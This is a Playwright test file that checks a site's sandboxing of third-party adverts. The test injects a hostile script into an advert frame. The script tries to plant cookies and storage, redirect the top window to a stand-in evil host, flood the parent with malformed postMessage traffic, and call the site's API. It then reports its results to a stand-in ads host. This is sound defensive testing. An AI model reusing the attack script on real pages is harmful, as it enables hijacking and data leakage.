import { expect, open, secondUrl, test, wide } from './site-test.ts';
import { accept, allow, frames } from './advert-frames.ts';

// A hostile page gets the browser's own defense against windows that nobody asked for. A headless
// shell has none, and is told to open no window.
test.use({
  baseURL: secondUrl,
  launchOptions: {
    ...launch(),
    ignoreDefaultArgs: ['--disable-popup-blocking'],
    args: ['--block-new-web-contents'],
  },
});

function launch(): { executablePath?: string } {
  const { CHROMIUM_PATH } = process.env;
  return CHROMIUM_PATH ? { executablePath: CHROMIUM_PATH } : {};
}

/** Runs in the advert's frame, and tries what an advert must not be able to do. */
function attack(): void {
  const found: Record<string, string> = {};
  const attempt = (name: string, act: () => unknown): void => {
    try {
      found[name] = `allowed: ${String(act())}`;
    } catch (error) {
      found[name] = `refused: ${(error as Error).name}`;
    }
  };
  attempt('cookie', () => (document.cookie = 'planted=1'));
  attempt('storage', () => localStorage.setItem('planted', '1'));
  attempt('parent', () => (parent.document.title = 'planted'));
  attempt('address', () => top!.location.href);
  attempt('navigate', () => (top!.location.href = 'https://evil.example.net/'));
  attempt('window', () => String(window.open('https://evil.example.net/')));
  attempt('database', () => indexedDB.open('planted'));
  attempt('worker', () => navigator.serviceWorker.register('/sw.js'));
  alert('planted');
  const parentPost = (message: unknown): void => parent.postMessage(message, '*');
  for (const height of [-1, 0, 1e9, Number.NaN, '300', null])
    parentPost({ type: 'resize', height });
  for (const odd of [
    null,
    'resize',
    42,
    [],
    { type: '__proto__' },
    { type: 'resize', height: { valueOf: 1 } },
  ])
    parentPost(odd);
  setInterval(() => {
    for (let count = 0; count < 200; count += 1)
      parentPost({ type: 'resize', height: 9999, noise: 'x'.repeat(500) });
  }, 10);
  fetch('/api/newsletter', {
    method: 'POST',
    body: '{"email":"planted@example.net"}',
    headers: { 'Content-Type': 'application/json' },
  })
    .then((answer) => (found.api = `allowed: ${answer.status}`))
    .catch((error: Error) => (found.api = `refused: ${error.name}`))
    .finally(() => void fetch(`https://ads.example.net/report?${new URLSearchParams(found)}`));
}

test('sec-A1: a hostile advert changes nothing and learns nothing, and the page answers within 200 ms', async ({
  page,
  context,
  watch,
}) => {
  watch.expectError(
    /ads\.example\.net|\/slot\/|sandbox|alert|Unsafe attempt|opaque origin|Failed to fetch|ERR_BLOCKED|Blocked|securitypolicyviolation|Content Security Policy/i,
  );
  allow(watch, `(${attack.toString()})()`);
  await page.setViewportSize(wide);
  await open(page, '/resources');
  const title = await page.title();
  const reported = page.waitForRequest(/ads\.example\.net\/report/);
  await accept(page);
  // Adverts load when they come near the window.
  await page.locator('[data-ad-slot]:visible').first().scrollIntoViewIfNeeded();
  const report = await reported;
  const found = Object.fromEntries(new URL(report.url()).searchParams);
  for (const name of ['cookie', 'storage', 'parent', 'address', 'navigate', 'database', 'api']) {
    expect(found[name], name).toMatch(/^refused/);
  }
  expect(found.window).toBe('allowed: null');
  // Adverts that never stop talking are taken out.
  await expect(frames(page)).toHaveCount(0);
  await page.waitForTimeout(300);
  expect(context.pages()).toHaveLength(1);
  expect(new URL(page.url()).pathname).toBe('/resources');
  expect(await page.title()).toBe(title);
  expect(await context.cookies()).toEqual([]);
  expect(await page.evaluate(() => Object.keys(localStorage))).toEqual(['consent']);
  const sizes = await page
    .locator('[data-ad-slot]')
    .evaluateAll((all) =>
      all.filter((slot) => slot.checkVisibility()).map((slot) => slot.clientHeight),
    );
  for (const height of sizes) expect(height).toBeLessThan(700);
  const usual = await page.evaluate(async () => {
    const waits: number[] = [];
    for (let round = 0; round < 20; round += 1) {
      const asked = performance.now();
      await new Promise((done) => setTimeout(done));
      document.querySelector<HTMLElement>('[data-menu-opener]')!.click();
      document.querySelector<HTMLDialogElement>('[data-menu]')!.close();
      waits.push(performance.now() - asked);
    }
    return waits.toSorted((a, b) => a - b)[10];
  });
  expect(usual).toBeLessThan(200);
});

test('sec-A2: the same script in a srcdoc frame would not run', async ({ page, watch }) => {
  watch.expectError(/Trusted|securitypolicyviolation|Content Security Policy/i);
  await open(page, '/resources');
  const outcome = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts');
    try {
      frame.srcdoc = '<script>parent.postMessage("planted", "*")</' + 'script>';
    } catch (error) {
      return (error as Error).name;
    }
    document.body.append(frame);
    return 'allowed';
  });
  expect(outcome).toBe('TypeError');
});
